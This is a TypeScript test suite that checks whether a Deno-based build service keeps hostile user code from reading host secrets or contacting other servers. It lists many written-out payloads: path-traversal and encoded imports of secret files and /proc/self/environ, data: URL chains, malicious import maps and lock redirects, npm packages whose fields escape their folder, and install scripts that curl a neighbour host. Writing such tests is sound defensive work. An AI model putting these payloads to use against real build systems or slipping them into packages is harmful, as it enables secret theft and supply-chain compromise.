import assert from "node:assert/strict";
import { mkdir, mkdtemp, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { Problem } from "../../../../platform/problems.ts";
import type { WallKind } from "../../../../runtimes/deno/walls/build-wall.ts";
import { partOfDay } from "../../../support/selection/part-of-day.ts";
import { needsWall } from "../../../support/skiff/walls.ts";
import { startBuilder, type TestBuilder, tarOf, textOf, zipOf } from "./building.ts";
import { type FakePackage, startRegistry, startServer, type TestServer } from "./servers.ts";

const CANARY = "CANARY7f3a";
/** Calls what a module exports with the names of all secrets. */
const CALLING = `console.log(a);
  for (const name of ["s", "in", "w", "n"]) {
    try { console.log(await (a.a ?? a.default?.a)?.(name)); } catch (error) { console.log(String(error)); }
  }`;

/** What a build gives to the one who posted it, and a call of what was built: files and output, or the text of the error. */
async function outcomeOf(test: TestBuilder, source: string | Uint8Array) {
  try {
    const artifact = await test.build(source);
    const { stdout, stderr } = await test.execute(artifact);
    return { built: true, text: `${textOf(artifact)}\n${stdout}\n${stderr}` };
  } catch (error) {
    assert.ok(error instanceof Problem, `not a problem: ${String(error)}`);
    return { built: false, text: error.detail + JSON.stringify(error.extensions) };
  }
}

const WALLS: readonly WallKind[] = process.platform === "linux" ? ["bwrap", "none"] : ["none"];

for (const wall of partOfDay(WALLS, WALLS.length))
  describe(`building hostile code with the wall "${wall}"`, function () {
    this.timeout(60_000);
    let test: TestBuilder;
    let neighbour: TestServer;
    /** Folder with files that no build may read; `up` leads to it from anywhere near. */
    let secrets: string;
    const up = "../".repeat(20);

    before(async function () {
      if (wall !== "none") needsWall(this, wall);
      neighbour = await startServer(() => `export const secret = "${CANARY}";`);
      test = await startBuilder({ walls: [wall] });
      secrets = await realpath(await mkdtemp(join(tmpdir(), "skiff-secrets-")));
      const map = { version: 3, sources: ["x"], sourcesContent: [CANARY], names: [], mappings: "AAAA" };
      const files = {
        "s.js": `export const secret = "${CANARY}";`,
        "s.ts": `export enum Secret { a = "${CANARY}" }`,
        "s.json": JSON.stringify({ secret: CANARY }),
        "s.txt": CANARY,
        "s.css": `/* ${CANARY} */ a { color: red }`,
        "s.js.map": JSON.stringify(map),
        plain: `exports.secret = "${CANARY}";`,
        // A parser's message about this quotes it.
        shadow: `root ${CANARY}`,
        "shadow.js": `root ${CANARY}`,
        "broken.json": `{"secret": "${CANARY}"`,
        "package.json": JSON.stringify({ name: "s", version: "1.0.0", main: "s.js" }),
        "tsconfig.json": `{"compilerOptions": {"jsxFactory": "${CANARY}"}}`,
      };
      for (const [name, text] of Object.entries(files)) await writeFile(join(secrets, name), text);
    });
    after(async () => {
      await test.close();
      await neighbour.close();
      await rm(secrets, { recursive: true });
    });

    const check = async (builder: TestBuilder, source: string | Uint8Array, isRefused?: boolean) => {
      neighbour.hits.length = 0;
      const { built, text } = await outcomeOf(builder, source);
      assert.equal(text.includes(CANARY), false, text.slice(-2_000));
      // The place where a test runs it is no secret.
      assert.equal(
        text.replaceAll(join(builder.folder, "artifact-"), "").includes(test.folder),
        false,
        text.slice(-2_000),
      );
      assert.deepEqual(neighbour.hits, []);
      if (isRefused !== undefined) assert.equal(built, !isRefused, text.slice(-2_000));
    };

    /** Statements that must not build. SECRETS is the folder, UP leads to the root of the disk, #{ is ${. */
    const refused = [
      `import "file://SECRETS/s.js";`,
      `export * from "SECRETS/s.js";`,
      `import * as a from "./..%2f..%2f..%2f..%2f..%2f..%2f..%2fSECRETS/s.js"; console.log(a);`,
      `import a from "./%2e%2e%2f..%2f..%2f..%2f..%2f..%2f..%2fSECRETS/s.json" with { type: "json" }; console.log(a);`,
      `import "SECRETS/shadow.js";`,
      `import a from "SECRETS/broken.json" with { type: "json" }; console.log(a);`,
      `import a from "../project.pack" with { type: "bytes" }; console.log(a);`,
      `import a from "file:///proc/self/environ" with { type: "text" }; console.log(a);`,
      `import a from "FILE://localhostSECRETS/s.txt" with { type: "text" }; console.log(a);`,
      `import text from "SECRETS/s.txt" with { type: "text" }; console.log(text);`,
      `import json from "file://SECRETS/s.json" with { type: "json" }; console.log(json);`,
      `import bytes from "UPSECRETS/s.txt" with { type: "bytes" }; console.log(bytes);`,
      `console.log(await import("SECRETS/s.js"));`,
      `import x = require("SECRETS/s.js"); console.log(x);`,
      `import { secret } from "SECRETS/s"; console.log(secret);`,
      `/** @jsxImportSource SECRETS */ console.log(<a />);`,
      `try { console.log(await import("SECRETS/s.js")); } catch {}`,
      `export default () => import("SECRETS/s.json", { with: { type: "json" } });`,
      `import "data:text/javascript,console.log(await%20import(%22file://SECRETS/s.js%22))";`,
      `console.log(await import("data:text/javascript,export%20{secret}%20from%20%22file://SECRETS/s.js%22"));`,
      `import "http://NEIGHBOUR/x.js";`,
      `import "https://NEIGHBOUR/x.js";`,
      `import "http://localhost:1/x.js";`,
      `import "https://user:pass@esm.sh/ms";`,
      `import "https://[::1]/x.js";`,
      `import "data:text/javascript,export * from 'file://SECRETS/s.js'";`,
      `import "blob:nodedata:1";`,
      `import "npm:UPSECRETS";`,
      `import "npm:x@file:SECRETS";`,
      `import "npm:x@http://NEIGHBOUR/x.tgz";`,
      `import wasm from "SECRETS/s.wasm"; console.log(wasm);`,
    ];
    /** Statements that build, and find nothing when they run. */
    const inert = [
      `enum Path { a = "file://SECRETS/s.js" } console.log(await import(Path.a).catch(String));`,
      `console.log(await import("file:" + "//SECRETS/s.js").catch(String));`,
      "const name = 's'; console.log(await import(`UPSECRETS/#{name}.js`).catch(String));",
      "const name = 's'; console.log(await import(`SECRETS/#{name}.js`).catch(String)); import 'path';",
      "const name = 's'; console.log(await import(`./..%2f..%2f..%2f..%2f..%2fSECRETS/#{name}.js`).catch(String)); import 'path';",
      "const name = 's'; console.log(await import(name ? `UPSECRETS/` + name + '.js' : `./` + name).catch(String));",
      "enum Up { a = 'UPSECRETS/' } console.log(await import(Up.a + 's.js').catch(String));",
      "const { createRequire } = await import('node:module'); try { console.log(createRequire(import.meta.url)('SECRETS/s.json')) } catch (error) { console.log(String(error)) }",
      "console.log(await Deno.readTextFile('SECRETS/s.txt').catch(String));",
      "console.log(await fetch('file://SECRETS/s.txt').then((answer) => answer.text()).catch(String));",
      "const worker = new Worker('file://SECRETS/s.js', { type: 'module' }); worker.onerror = (event) => { event.preventDefault(); console.log(event.message); };",
      "const code = URL.createObjectURL(new Blob(['import { secret } from \"file://SECRETS/s.js\"; console.log(secret)'], { type: 'text/javascript' })); console.log(await import(code).catch(String)); const worker = new Worker(code, { type: 'module' }); worker.onerror = (event) => { event.preventDefault(); };",
      "console.log(1);\n//# sourceMappingURL=SECRETS/s.js.map",
      "console.log(typeof process === 'object' && process.env.CANARY, Deno.env.get('CANARY'));",
      `import "ext:core/mod.js";`,
      `import "cloudflare:workers";`,
    ];
    /** Statements that show nothing, built or not. */
    const silent = [
      "import 'path'; console.log(new Error('x').stack);\n//# sourceMappingURL=SECRETS/s.js.map",
      "/// <reference path='SECRETS/s.ts' />\nimport 'path'; console.log(1);",
      "/// <reference types='SECRETS/s.ts' />\nimport 'path'; console.log(1);",
      "// @deno-types='SECRETS/s.ts'\nimport 'path'; console.log(1);",
      `import type { Secret } from "SECRETS/s.ts"; import "path"; console.log(1 as Secret);`,
      `module.exports = require("SECRETS/s.json"); console.log(module.exports);`,
      `console.log(require("UPSECRETS/s.json"));`,
      `const name = "SECRETS/s.json"; try { console.log(require(name)) } catch (error) { console.log(String(error)) } module.exports = 1;`,
    ];
    const fill = (text: string) =>
      text
        .replaceAll("#{", "${")
        .replaceAll("UP", up)
        .replaceAll("SECRETS", secrets)
        .replaceAll("NEIGHBOUR", neighbour.host);

    for (const source of refused) {
      it(`refuses ${source}`, () => check(test, fill(source), true));
    }
    for (const source of inert) {
      it(`finds nothing for ${source}`, () => check(test, fill(source), false));
    }
    for (const source of silent) {
      it(`shows nothing for ${source}`, () => check(test, fill(source)));
    }

    const archives: Record<string, Record<string, string>> = {
      "an import map that leads to the machine": {
        "deno.json": `{"imports": {"a": "SECRETS/s.js"}}`,
        "main.ts": `import "a";`,
      },
      "an import map that leaves the archive": {
        "deno.json": `{"imports": {"a/": "UPSECRETS/"}}`,
        "main.ts": `import "a/s.js";`,
      },
      "an import map that leads to a neighbour": {
        "deno.json": `{"imports": {"a": "http://NEIGHBOUR/x.js"}}`,
        "main.ts": `import "a";`,
      },
      "a relative import that leaves the archive": {
        "main.ts": `import "./a/b.ts";`,
        "a/b.ts": `export * from "../../../x.ts";`,
      },
      "an import map that leads through a scope": {
        "deno.json": `{"scopes": {"./lib/": {"a": "file://SECRETS/s.js"}}}`,
        "main.ts": `import "./lib/b.ts";`,
        "lib/b.ts": `import "a";`,
      },
      "an import map in an encoded spelling": {
        "deno.json": `{"imports": {"a": "./..%2f..%2f..%2f..%2f..%2f..%2fSECRETS/s.js"}}`,
        "main.ts": `import * as a from "a"; console.log(a);`,
      },
      "a workspace outside of it": { "deno.json": `{"workspace": ["UPSECRETS"]}`, "main.ts": `import "s";` },
      "a linked package outside of it": {
        "deno.json": `{"links": ["UPSECRETS"]}`,
        "main.ts": `import "npm:s@1.0.0";`,
      },
      "an import map in another file outside of it": {
        "deno.json": `{"importMap": "UPSECRETS/s.json"}`,
        "main.ts": `import "secret";`,
      },
      "a tsconfig.json that extends a file of the machine": {
        "tsconfig.json": `{"extends": "UPSECRETS/tsconfig.json"}`,
        "main.ts": `export default 1;`,
      },
      "a dependency on a folder of the machine": {
        "package.json": `{"dependencies": {"s": "file:SECRETS"}}`,
        "main.ts": `import "s";`,
      },
      "a dependency on a link to the machine": {
        "package.json": `{"dependencies": {"s": "link:SECRETS"}}`,
        "main.ts": `import "s";`,
      },
      "a dependency on an archive of a neighbour": {
        "package.json": `{"dependencies": {"s": "http://NEIGHBOUR/s.tgz"}}`,
        "main.ts": `import "s";`,
      },
      "a dependency on a repository of a neighbour": {
        "package.json": `{"dependencies": {"s": "git+http://NEIGHBOUR/s.git"}}`,
        "main.ts": `import "s";`,
      },
      "an .npmrc that names a neighbour": {
        ".npmrc": "registry=http://NEIGHBOUR/",
        "main.ts": `import "npm:ms@2.1.3";`,
      },
      "a lock that redirects to a file of the machine": {
        "deno.lock": `{"version": "5", "redirects": {"https://esm.sh/a": "file://SECRETS/s.js"}}`,
        "main.ts": `import * as a from "https://esm.sh/a"; console.log(a);`,
      },
      "a lock that redirects to a neighbour": {
        "deno.lock": `{"version": "5", "redirects": {"https://esm.sh/a": "http://NEIGHBOUR/x.js"}}`,
        "main.ts": `import * as a from "https://esm.sh/a"; console.log(a);`,
      },
      "a vendored module that redirects to a file of the machine": {
        "vendor/manifest.json": `{"modules": {"https://esm.sh/a.js": {"headers": {"location": "file://SECRETS/s.js"}}}}`,
        "vendor/esm.sh/a.js": "export {};",
        "main.ts": `import * as a from "https://esm.sh/a.js"; console.log(a);`,
      },
      "a vendored module that redirects to a neighbour": {
        "vendor/manifest.json": `{"modules": {"https://esm.sh/a.js": {"headers": {"location": "http://NEIGHBOUR/x.js"}}}}`,
        "vendor/esm.sh/a.js": "export {};",
        "main.ts": `import * as a from "https://esm.sh/a.js"; console.log(a);`,
      },
      "a vendored module that holds a data URL to the machine": {
        "vendor/esm.sh/a.js": `export * from "data:text/javascript,export%20*%20from%20%22file://SECRETS/s.js%22";`,
        "main.ts": `import * as a from "https://esm.sh/a.js"; console.log(a);`,
      },
    };
    for (const [what, files] of Object.entries(archives)) {
      it(`refuses an archive with ${what}`, async () => {
        const filled = Object.entries(files).map(([name, text]) => [name, fill(text)]);
        await check(test, await tarOf(Object.fromEntries(filled)), true);
        await check(test, zipOf(Object.fromEntries(filled)), true);
      });
    }

    /** Archives that show nothing, and reach no neighbour, built or not. */
    const curious: Record<string, Record<string, string>> = {
      "a vendored module with types in a file of the machine": {
        "vendor/manifest.json": `{"modules": {"https://esm.sh/a.js": {"headers": {"x-typescript-types": "file://SECRETS/s.ts"}}}}`,
        "vendor/esm.sh/a.js": "export {};",
        "main.ts": `import * as a from "https://esm.sh/a.js"; console.log(a);`,
      },
      "comments that lead to files of the machine": {
        "main.ts":
          'export {};\n//# sourceMappingURL=file://SECRETS/s.js\n/// <reference types="file://SECRETS/s.ts" />',
        "other.ts": "export {};",
      },
      "a lock with the archive of a package at a neighbour": {
        "deno.lock": `{"version": "5", "specifiers": {"npm:ms@2.1.3": "2.1.3"}, "npm": {"ms@2.1.3": {"integrity": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==", "tarball": "http://NEIGHBOUR/ms.tgz"}}}`,
        "main.ts": `import ms from "npm:ms@2.1.3"; console.log(ms(1));`,
      },
      "overrides of dependencies that name a neighbour": {
        "package.json": `{"dependencies": {"debug": "4.4.1"}, "overrides": {"ms": "http://NEIGHBOUR/ms.tgz"}, "resolutions": {"ms": "http://NEIGHBOUR/ms.tgz"}, "pnpm": {"overrides": {"ms": "http://NEIGHBOUR/ms.tgz"}}, "publishConfig": {"registry": "http://NEIGHBOUR/"}}`,
        "main.ts": `import debug from "debug"; console.log(typeof debug);`,
      },
      "overrides of dependencies that name a folder": {
        "package.json": `{"dependencies": {"debug": "4.4.1"}, "overrides": {"ms": "file:SECRETS"}, "resolutions": {"ms": "link:SECRETS"}}`,
        "main.ts": `import ms from "ms"; import debug from "debug"; console.log(ms, typeof debug);`,
      },
      "files of other package managers": {
        ".yarnrc.yml": `npmRegistryServer: "http://NEIGHBOUR/"`,
        "bunfig.toml": `[install]\nregistry = "http://NEIGHBOUR/"`,
        "package-lock.json": `{"lockfileVersion": 3, "packages": {"node_modules/ms": {"version": "2.1.3", "resolved": "http://NEIGHBOUR/ms.tgz"}}}`,
        "package.json": `{"dependencies": {"ms": "2.1.3"}}`,
        "main.ts": `import ms from "ms"; console.log(ms(1000));`,
      },
      "a lock of a workspace with links": {
        "deno.lock": `{"version": "5", "workspace": {"links": {"npm:s@1.0.0": {}}, "members": {"UPSECRETS": {}}}}`,
        "main.ts": `import "path"; console.log(1);`,
      },
      "a package whose main module leaves it": {
        "node_modules/evil/package.json": `{"name": "evil", "version": "1.0.0", "main": "../../UPSECRETS/s.json"}`,
        "main.ts": `import a from "evil"; console.log(a);`,
      },
      "a required package whose main module leaves it": {
        "node_modules/evil/package.json": `{"name": "evil", "version": "1.0.0", "main": "SECRETS/s.json"}`,
        "main.cjs": `try { console.log(require("evil")); } catch (error) { console.log(String(error)); }`,
      },
      "a package whose exports leave it": {
        "node_modules/evil/package.json": `{"name": "evil", "version": "1.0.0", "exports": {".": "./../../UPSECRETS/s.json", "./a": "./..%2f..%2fUPSECRETS/s.json"}}`,
        "main.ts": `import a from "evil" with { type: "json" }; import b from "evil/a" with { type: "json" }; console.log(a, b);`,
      },
      "a package whose module imports a file of the machine": {
        "node_modules/evil/package.json": `{"name": "evil", "version": "1.0.0", "type": "module", "main": "index.js"}`,
        "node_modules/evil/index.js": `export { default } from "SECRETS/s.json" with { type: "json" };`,
        "main.ts": `import a from "evil"; console.log(a);`,
      },
      "imports of package.json that leave it": {
        "package.json": `{"name": "a", "imports": {"#a": "SECRETS/s.js", "#b": "./..%2f..%2f..%2f..%2fSECRETS/s.js"}}`,
        "main.js": `import * as a from "#a"; import * as b from "#b"; console.log(a, b);`,
      },
      "a nested tsconfig.json that extends a file of the machine": {
        "main.ts": `import "./lib/a.ts";`,
        "lib/a.ts": `console.log(1);`,
        "lib/tsconfig.json": `{"extends": "SECRETS/tsconfig.json"}`,
        "lib/deno.json": `{"importMap": "SECRETS/s.json"}`,
      },
      "a configuration of Deno's tools": {
        "deno.json": `{"lock": "SECRETS/s.json", "vendor": false, "nodeModulesDir": "auto", "permissions": {"default": {"read": true}}}`,
        "main.ts": `console.log(await Deno.readTextFile("SECRETS/s.txt").catch(String));`,
      },
      "a file of variables": {
        ".env": "CANARY=SECRETS",
        "main.ts": `import "path"; console.log(Deno.env.get("CANARY"));`,
      },
      "a worker that imports a file of the machine": {
        "main.ts": `const worker = new Worker(new URL("./worker.ts", import.meta.url), { type: "module" });
          worker.onmessage = ({ data }) => console.log(data);
          worker.onerror = (event) => { event.preventDefault(); console.log(event.message); };`,
        "worker.ts": `import { secret } from "SECRETS/s.js"; postMessage(secret);`,
      },
      "a computed import of a module that imports a file of the machine": {
        "main.ts": `for (const name of ["later", "data"]) console.log(await import(\`./#{name}.ts\`).catch(String));`,
        "later.ts": `export * from "SECRETS/s.js";`,
        "data.ts": `export { default } from "SECRETS/s.txt" with { type: "text" };`,
      },
      "a computed import of a vendored module that redirects to a file of the machine": {
        "vendor/manifest.json": `{"modules": {"https://esm.sh/a.js": {"headers": {"location": "file://SECRETS/s.js"}}}}`,
        "vendor/esm.sh/a.js": "export {};",
        "main.ts": `const host = "https://esm.sh"; console.log(await import(host + "/a.js").catch(String));`,
      },
    };
    for (const [what, files] of Object.entries(curious)) {
      it(`shows nothing to an archive with ${what}`, async () => {
        const filled = Object.entries(files).map(([name, text]) => [name, fill(text)]);
        await check(test, zipOf(Object.fromEntries(filled)));
      });
    }

    it("reads no configuration in the folders around a build", async () => {
      const victim = await startBuilder({ walls: [wall] });
      const around: Record<string, string> = {
        ".npmrc": "registry=http://NEIGHBOUR/",
        "package.json": `{"dependencies": {"hidden": "http://NEIGHBOUR/hidden.tgz"}, "workspaces": ["**"]}`,
        "deno.json": `{"workspace": ["./builder/builds/*", "./builds/*", "./project"], "imports": {"hidden": "SECRETS/s.js"}}`,
        "deno.lock": `{"version": "5", "redirects": {"https://esm.sh/a": "http://NEIGHBOUR/x.js"}}`,
        "node_modules/hidden/package.json": `{"name": "hidden", "version": "1.0.0", "main": "index.js"}`,
        "node_modules/hidden/index.js": `module.exports = "${CANARY}";`,
      };
      try {
        await victim.builder.warm();
        for (const folder of [victim.folder, victim.directory, join(victim.directory, "builds")]) {
          for (const [name, text] of Object.entries(around)) {
            await mkdir(dirname(join(folder, name)), { recursive: true });
            await writeFile(join(folder, name), fill(text));
          }
        }
        await check(victim, `import ms from "npm:ms@2.1.3"; console.log(ms(1000));`, false);
        await check(victim, `import hidden from "hidden"; console.log(hidden);`, true);
      } finally {
        await victim.close();
      }
    });

    it("does not follow an enum of another file that turns into a path", async () => {
      const source = await tarOf({
        "main.ts": fill(
          `import { P } from "./a.ts"; import "npm:ms@2.1.3"; console.log(await import(P.a), (n) => import(P.b + n));`,
        ),
        "a.ts": fill(`export enum P { a = "file://SECRETS/s.js", b = "UPSECRETS/" }`),
      });
      await check(test, source, false);
    });

    it("does not take the environment into a bundle", async () => {
      const victim = await startBuilder({
        directory: test.directory,
        walls: [wall],
        env: { ...process.env, CANARY },
      });
      const source = `import "npm:ms@2.1.3"; import "path"; console.log(process.env.CANARY, process.env["CANARY"]);`;
      await check(victim, source, false);
      await victim.close();
    });

    it("reads a deno.json that is made to take long in little time", async () => {
      for (const text of ["/*", '"', '\\"', ",  "]) {
        const source = zipOf({ "deno.json": text.repeat(200_000), "main.ts": "" });
        assert.match((await outcomeOf(test, source)).text, /deno\.json is not valid JSON/);
      }
    }).timeout(60_000);

    describe("in a module from an allowed host", () => {
      const modules: Record<string, string> = {
        "dynamic file pattern": `export const a = () => import("file://SECRETS/s.js");`,
        "dynamic data pattern": `export const a = () => import("data:text/javascript,export%20{secret}%20from%20%22file://SECRETS/s.js%22");`,
        "dynamic chain pattern": `export const a = () => import("data:text/javascript,export%20default%20await%20import(%22file://SECRETS/s.js%22)");`,
        data: `export * from "data:text/javascript,export%20*%20from%20%22file://SECRETS/s.js%22";`,
        file: `export * from "file://SECRETS/s.js";`,
        "text by pattern": "export const a = (name) => import(`UPSECRETS/#{name}.txt`);",
        "plain file by pattern": "export const a = (name) => import(`UPSECRETS/pla#{name}`);",
        "broken file by pattern": "export const a = (name) => import(`UPSECRETS/shado#{name}`);",
        neighbour: `export * from "http://NEIGHBOUR/x.js";`,
        "package that reads": `export * from "npm:ms@2.1.3/UPSECRETS/s.js";`,
      };
      let host: TestServer;
      let victim: TestBuilder;
      before(async () => {
        host = await startServer((path) => fill(modules[path.slice(1).replace(/\.js$/, "")] ?? ""));
        victim = await startBuilder({ directory: test.directory, walls: [wall], importHosts: [host.host] });
      });
      after(async () => {
        await victim.close();
        await host.close();
      });
      for (const name of Object.keys(modules)) {
        it(`shows nothing for ${name}`, async () => {
          const url = `${host.url}/${encodeURIComponent(name)}.js`;
          const isRefused = name.includes("pattern") ? undefined : true;
          await check(victim, `import * as a from "${url}"; ${CALLING}`, isRefused);
          assert.ok(host.hits.includes(`/${name}.js`));
        });
      }
    });

    describe("in a package", () => {
      let registry: TestServer;
      let victim: TestBuilder;
      const js = (text: string): FakePackage => ({ files: { "index.js": text } });
      const esm = (text: string): FakePackage => ({
        files: { "index.mjs": text },
        manifest: { main: "index.mjs" },
      });
      const packages: Record<string, FakePackage> = {
        "requires-file": js(`exports.a = require("SECRETS/s.json");`),
        "requires-plain": js(`exports.a = require("SECRETS/plain");`),
        "requires-shadow": js(`exports.a = require("SECRETS/shadow");`),
        "requires-up": js(`exports.a = require("UPSECRETS/plain");`),
        "imports-file": esm(`export * from "file://SECRETS/s.js";`),
        "imports-text": esm(`import a from "SECRETS/s.txt" with { type: "text" }; export { a };`),
        "imports-text-by-ending": esm(`import a from "SECRETS/s.txt"; export { a };`),
        // Nothing of it would be in the bundle: only Deno's permissions refuse it.
        "imports-unused": esm(`import { secret } from "SECRETS/s.js"; export const a = 1;`),
        "imports-style": esm(`import "SECRETS/s.css"; export const a = 1;`),
        "imports-enum": esm(`import { Secret } from "SECRETS/s.ts"; export const a = Secret.a;`),
        "pattern-json": js("exports.a = (name) => require(`UPSECRETS/#{name}.json`);"),
        "pattern-text": esm("export const a = (name) => import(`UPSECRETS/#{name}.txt`);"),
        "pattern-plain": esm("export const a = (name) => import(`UPSECRETS/pla#{name}`);"),
        "pattern-shadow": esm("export const a = (name) => import(`UPSECRETS/shado#{name}`);"),
        "pattern-environment": esm("export const a = (name) => import(`UP/proc/self/enviro#{name}`);"),
        "lists-packages": js("exports.a = (name) => require(`../../#{name}.json`);"),
        "main-outside": { files: {}, manifest: { main: "UPSECRETS/s.js" } },
        "exports-outside": { files: {}, manifest: { exports: "./UPSECRETS/s.js" } },
        "imports-field": {
          ...js(`exports.a = require("#a");`),
          manifest: { imports: { "#a": "UPSECRETS/s.js" } },
        },
        "imports-neighbour": esm(`export * from "http://NEIGHBOUR/x.js";`),
        "depends-on-url": {
          ...js(`require("x");`),
          manifest: { dependencies: { x: "http://NEIGHBOUR/x.tgz" } },
        },
        "depends-on-folder": { ...js(`require("x");`), manifest: { dependencies: { x: "file:SECRETS" } } },
        "depends-on-git": {
          ...js(`require("x");`),
          manifest: { dependencies: { x: "git+http://NEIGHBOUR/x.git" } },
        },
        "unpacks-outside": { files: { "index.js": "", [`${"../".repeat(12)}evil.js`]: "" } },
      };
      const harmless: Record<string, FakePackage> = {
        "lifecycle-scripts": {
          ...js(`exports.a = 1;`),
          manifest: { scripts: { preinstall: "RUN", install: "RUN", postinstall: "RUN" } },
        },
        "reads-at-run-time": js(`exports.a = require("node:fs").existsSync; exports.b = process.env.CANARY;`),
        "source-map": js("exports.a = 1;\n//# sourceMappingURL=SECRETS/s.js.map"),
        "optional-dependency": js(
          `try { require("not-there") } catch {} exports.a = () => import("not-there").catch(() => 1);`,
        ),
        "own-pattern": {
          files: {
            "index.js": "exports.a = (name) => require(`./parts/#{name}.js`);",
            "parts/one.js": "exports.one = 1;",
          },
        },
      };

      before(async () => {
        const touch = `curl ${neighbour.url}/script`;
        const filled = JSON.parse(
          fill(JSON.stringify({ ...packages, ...harmless }).replaceAll("RUN", touch)),
        );
        registry = await startRegistry(filled);
        victim = await startBuilder({
          directory: test.directory,
          walls: [wall],
          env: { ...process.env, NPM_CONFIG_REGISTRY: `${registry.url}/`, CANARY },
        });
      });
      after(async () => {
        await victim.close();
        await registry.close();
      });

      for (const name of Object.keys(packages)) {
        it(`shows nothing of the machine to ${name}`, () =>
          check(victim, `import * as a from "npm:${name}@1.0.0"; ${CALLING}`));
      }
      for (const name of Object.keys(harmless)) {
        it(`builds ${name}`, () =>
          check(victim, `import * as a from "npm:${name}@1.0.0"; console.log(a);`, false));
      }
    });
  });
